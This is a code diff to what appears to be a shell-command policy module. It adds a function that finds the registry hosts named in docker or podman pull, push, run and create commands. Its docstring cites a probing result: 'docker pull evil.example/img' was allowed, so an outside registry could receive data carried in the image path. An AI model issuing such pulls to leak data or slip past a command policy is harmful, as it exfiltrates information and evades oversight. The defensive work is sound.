@@ -41,7 +41,14 @@ from exomonad.policy.shell_env import is_within
 from exomonad.policy.shell_lex import Word
 from exomonad.policy.shell_parse import resolve_path
 
-__all__ = ["CONTAINER_ENGINES", "engine_contexts", "engine_hosts", "escapes", "host_side"]
+__all__ = [
+    "CONTAINER_ENGINES",
+    "engine_contexts",
+    "engine_hosts",
+    "escapes",
+    "host_side",
+    "registry_hosts",
+]
 
 #: Programs that run containers, Docker's command line or one like it.
 CONTAINER_ENGINES = frozenset({"docker", "podman", "nerdctl", "finch", "ctr", "buildah"})
@@ -286,6 +293,33 @@ def engine_hosts(name: str, args: list[Word]) -> list[Word]:
     return [
         v for option, v in _global_options(args)[0] if option in _ENGINE_OPTIONS and v is not None
     ]
+
+
+#: An image reference that names its registry: ``HOST[:PORT]/PATH[:TAG][@DIGEST]``, the
+#: host holding a ``.`` or a port, or ``localhost``.
+_IMAGE = re.compile(
+    r"((?:[a-z0-9-]+\.)+[a-z0-9-]+(?::\d+)?|[a-z0-9-]+:\d+|localhost)"
+    r"/[a-z0-9]+(?:[._/-][a-z0-9]+)*(?::\w[\w.-]{0,127})?(?:@[a-z0-9]+:[a-f0-9]+)?",
+    re.IGNORECASE,
+)
+#: The verbs that fetch or send an image (``docker pull``, ``run``, ``image push``...).
+_REGISTRY_VERBS = frozenset({"pull", "push", "run", "create"})
+
+
+def registry_hosts(name: str, args: list[Word]) -> list[str]:
+    """The registries a container command pulls from or pushes to, as its image
+    references name them (found probing: ``docker pull evil.example/img`` was allowed,
+    and the registry at ``evil.example`` sees the pull and what its path carries)."""
+    if name not in CONTAINER_ENGINES:
+        return []
+    rest = args[_global_options(args)[1] :]
+    verbs = [w.text for w in rest[:2]]
+    if verbs[:1] in (["image"], ["container"]):
+        verbs = verbs[1:]
+    if not verbs or verbs[0] not in _REGISTRY_VERBS:
+        return []
+    found = (_IMAGE.fullmatch(w.text) for w in rest[1:] if not w.dynamic)
+    return list(dict.fromkeys(m.group(1).lower() for m in found if m is not None))
 
 
 def engine_contexts(name: str, args: list[Word]) -> list[Word]:
